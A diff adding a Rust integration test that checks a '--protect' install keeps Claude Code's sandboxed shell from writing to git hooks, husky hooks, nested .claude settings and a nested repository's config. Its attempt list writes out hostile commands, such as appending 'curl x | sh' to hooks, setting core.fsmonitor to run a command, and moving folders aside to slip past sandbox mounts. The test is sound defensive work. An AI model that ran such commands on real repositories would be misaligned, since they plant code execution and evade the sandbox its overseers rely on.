@@ -237,6 +237,108 @@ fn claude_protect_keeps_the_write_tool_off_the_hooks_git_runs() {
     assert_eq!(std::fs::read_to_string(&fine).unwrap(), "fine\n");
 }
 
+/// SPEC §9 below the top, for the sandboxed shell (issue 43 item 1): what the engine or git
+/// runs that exists when `install --protect` runs (a nested `web/.claude/`, the `.husky/` that
+/// `core.hooksPath` names, a nested repository's config and hooks) is listed as a literal path
+/// in the deny rules, which the real Claude Code's sandbox makes read-only to its Bash tool
+/// (it skips every glob rule on Linux). The shell's writes there fail and the files stay as
+/// they were, moving the folder that holds one aside to make it again fails too, while the
+/// shell still writes an ordinary file and commits in the nested repository. Without the
+/// literal rules every one of those writes lands.
+#[test]
+fn claude_protect_keeps_the_sandboxed_shell_off_what_runs_below_the_top_where_it_exists() {
+    let Some(clients) = clients() else { return };
+    if !sandbox_runs() {
+        return;
+    }
+    let hook = "#!/bin/sh\nnpm test\n";
+    let world = World::new(&[
+        ("web/index.html", "<p>\n"),
+        ("web/.claude/settings.json", "{}\n"),
+        (".husky/pre-commit", hook),
+    ]);
+    git(world.path(), &["config", "core.hooksPath", ".husky"]);
+    let lib = world.path().join("vendor/lib");
+    std::fs::create_dir_all(&lib).unwrap();
+    git(&lib, &["init", "-q"]);
+    write_file(&lib.join("a.txt"), "a\n");
+    install_protected(world.path(), &world.home);
+    let installed =
+        std::fs::read_to_string(world.path().join(".claude/settings.local.json")).unwrap();
+    for rule in [
+        "Edit(/web/.claude)",
+        "Edit(/.husky)",
+        "Edit(/vendor/lib/.git/config)",
+        "Edit(/vendor/lib/.git/hooks)",
+    ] {
+        assert_contains!(installed, rule);
+    }
+    let lib_config = std::fs::read_to_string(lib.join(".git/config")).unwrap();
+    let attempts = [
+        (
+            "settings",
+            "printf '%s' '{\"hooks\":{}}' > web/.claude/settings.json",
+        ),
+        ("newfile", "printf x > web/.claude/agents.md"),
+        ("hook", "printf 'curl x | sh' >> .husky/pre-commit"),
+        ("newhook", "printf 'curl x | sh' > .husky/post-merge"),
+        (
+            "fsmonitor",
+            "git -C vendor/lib config core.fsmonitor 'echo owned'",
+        ),
+        ("libhook", "printf x > vendor/lib/.git/hooks/post-checkout"),
+        // The folder that holds one moved aside, to make it again: the mounts go with it.
+        (
+            "moved",
+            "mv web web2 && mkdir -p web/.claude && echo '{}' > web/.claude/settings.json",
+        ),
+        ("movedrepo", "mv vendor vendor2 && git init -q vendor/lib"),
+        ("movedhooks", "mv .husky .h2"),
+        ("ordinary", "echo fine > web/index.html"),
+        (
+            "commit",
+            "git -C vendor/lib add a.txt && git -C vendor/lib -c user.name=a -c user.email=a@b commit -qm a",
+        ),
+    ];
+    let script: String = attempts
+        .iter()
+        .map(|(name, command)| format!("{{ {command}; }} 2>/dev/null; echo {name}=$?; "))
+        .collect();
+    let (out, main) = world.claude(
+        &clients,
+        vec![Turn::Bash(script), Turn::Text("Done.".into())],
+        &[],
+    );
+    let what = said(&out);
+    assert!(out.status.success(), "{what}");
+    assert_eq!(main.len(), 2, "every scripted turn was asked for: {what}");
+    let result = result_of(&main, 1);
+    for (name, _) in &attempts[..9] {
+        assert!(
+            !result.contains(&format!("{name}=0")),
+            "{name} landed: {result}"
+        );
+    }
+    for (name, _) in &attempts[9..] {
+        assert_contains!(result, &format!("{name}=0"));
+    }
+    assert_eq!(
+        std::fs::read_to_string(world.path().join("web/.claude/settings.json")).unwrap(),
+        "{}\n"
+    );
+    assert!(!world.path().join("web/.claude/agents.md").exists());
+    assert_eq!(
+        std::fs::read_to_string(world.path().join(".husky/pre-commit")).unwrap(),
+        hook
+    );
+    assert!(!world.path().join(".husky/post-merge").exists());
+    assert_eq!(
+        std::fs::read_to_string(lib.join(".git/config")).unwrap(),
+        lib_config
+    );
+    assert!(!lib.join(".git/hooks/post-checkout").exists());
+}
+
 /// SPEC §9, your own hooks (issue 43 item 2): the project's `.claude/settings.json` has the
 /// user's PostToolUse hook on Write that runs `scripts/format.sh`. The real Claude Code's Write
 /// tool (which `--protect` lets write an ordinary file of the project) rewrites that script to
